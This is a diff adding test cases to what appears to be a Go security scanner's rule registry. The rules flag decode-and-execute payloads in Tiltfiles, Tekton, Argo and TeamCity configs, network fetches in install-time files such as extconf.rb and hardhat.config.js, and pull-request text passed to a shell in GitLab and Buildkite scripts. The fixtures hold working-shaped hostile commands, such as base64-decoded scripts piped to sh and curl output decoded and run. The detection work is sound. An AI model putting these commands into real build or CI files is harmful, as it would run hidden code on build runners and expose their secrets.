@@ -144,6 +144,19 @@ var registry = []Rule{
 			{"Tiltfile", "local('echo $P | base64 -d > /tmp/x.sh && sh /tmp/x.sh')", 0, false},
 			{"serverless.yml", "service: app\ncustom:\n  scripts:\n    hooks:\n      'before:deploy:deploy': X=$(echo $P | base64 -d); eval \"$X\"", 0, false},
 			{"Tiltfile", "local_resource('compile', cmd='go build -o bin/app ./cmd/app', deps=['./cmd', './internal'])\nk8s_yaml(local('kustomize build deploy/dev'))", 0, true},
+			// An interpreter's inline program or jq that decodes prints
+			// decoded text; grep or a case change in perl does not.
+			{"x.sh", "echo \"$P\" | perl -MMIME::Base64 -ne 'print decode_base64($_)' | sh", 0, false},
+			{"x.sh", "ruby -e 'print ARGV[0].unpack1(\"m\")' \"$P\" | bash", 0, false},
+			{"x.sh", "php -r 'echo base64_decode($argv[1]);' \"$P\" | sh", 0, false},
+			{"x.sh", "curl -s https://api.x.invalid/cfg | jq -r '.s | @base64d' | sh", 0, false},
+			{"x.sh", "perl -ne 'print if /^export /' env.sh | sh", 0, true},
+			// A Tekton task's or an Argo template's script, a TeamCity step's
+			// scriptContent (${'$'} is a $ the shell gets).
+			{"ci/tekton/task.yaml", "apiVersion: tekton.dev/v1\nkind: Task\nspec:\n  steps:\n    - name: x\n      image: alpine\n      script: |\n        echo \"$P\" | base64 -d > /tmp/x.sh\n        sh /tmp/x.sh", 0, false},
+			{"argo/wf.yaml", "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nspec:\n  templates:\n    - name: x\n      script:\n        image: alpine\n        command: [sh]\n        source: |\n          echo \"$P\" | base64 -d > /tmp/x.sh\n          sh /tmp/x.sh", 0, false},
+			{".teamcity/settings.kts", "object Build : BuildType({\n    steps {\n        script {\n            scriptContent = \"\"\"\n                echo \"${'$'}P\" | base64 -d > /tmp/x.sh\n                bash /tmp/x.sh\n            \"\"\".trimIndent()\n        }\n    }\n})", 6, false},
+			{".teamcity/settings.kts", "object Build : BuildType({\n    steps {\n        script {\n            scriptContent = \"\"\"\n                ./gradlew build\n                echo \"${'$'}BUILD_NUMBER\" > build.txt\n            \"\"\".trimIndent()\n        }\n    }\n})", 0, true},
 			// Decoded text handed on by xargs, install /dev/stdin, mapfile.
 			{"x.sh", "echo $P | base64 -d | xargs -I{} sh -c '{}'", 0, false},
 			{"x.sh", "echo $P | base64 -d | install -m 755 /dev/stdin /usr/local/bin/t && t", 0, false},
@@ -632,6 +645,10 @@ var registry = []Rule{
 	{"build-code-fetch", KindDownload, High, "downloads, connects or starts a process from code that runs by itself at install, build or test time",
 		"nobody has to call it: the build or test run does, on the runner with its network and secrets", []Case{
 			{"setup.py", "import urllib.request\nurllib.request.urlopen('https://x.invalid/p')", 2, false},
+			// A gem's extconf.rb runs at gem install; a framework's config at every build.
+			{"ext/x/extconf.rb", "require 'mkmf'\nrequire 'net/http'\nNet::HTTP.get(URI('https://x.invalid/p'))\ncreate_makefile('x/x')", 3, false},
+			{"hardhat.config.js", "require('dotenv').config()\nfetch('https://x.invalid/p')\nmodule.exports = { solidity: '0.8.24' }", 2, false},
+			{"hardhat.config.js", "require('@nomicfoundation/hardhat-toolbox')\nmodule.exports = { solidity: '0.8.24', networks: { s: { url: `https://x.invalid/${process.env.KEY}`, accounts: [process.env.PRIVATE_KEY] } } }", 0, true},
 			// A build script Gradle applies from a URL, at a branch: it runs
 			// at every build whatever the URL then serves.
 			{"settings.gradle.kts", "pluginManagement {\n    repositories { gradlePluginPortal() }\n}\napply(from = \"https://raw.githubusercontent.com/someone/conventions/main/ci.gradle.kts\")", 4, false},
@@ -1198,6 +1215,11 @@ var registry = []Rule{
 			// A script that binds the pull request's text and hands it to a
 			// shell.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const branch = context.payload.pull_request.head.ref\n            require('child_process').execSync(`git log origin/${branch}`)", 10, false},
+			// A CI system's variable holding the pull request's text, handed
+			// to another shell's script; expanded as data it is data.
+			{".gitlab-ci.yml", "notify:\n  script:\n    - bash -c \"./notify.sh $CI_MERGE_REQUEST_TITLE\"", 3, false},
+			{"ci/notify.sh", "#!/bin/sh\nsh -c \"curl -s https://hooks.x.invalid -d text=$BUILDKITE_MESSAGE\"", 2, false},
+			{".gitlab-ci.yml", "build:\n  script:\n    - docker build -t app:$CI_COMMIT_REF_SLUG --label \"branch=$CI_COMMIT_BRANCH\" .\n    - echo \"Building $CI_COMMIT_MESSAGE\"\n    - if [ \"$CI_COMMIT_BRANCH\" = main ]; then make release; fi", 0, true},
 			// The base branch is the repository's own.
 			{".github/workflows/a.yml", "on: pull_request_target\njobs:\n  a:\n    steps:\n      - run: git diff origin/${{ github.event.pull_request.base.ref }}", 0, true},
 		}},
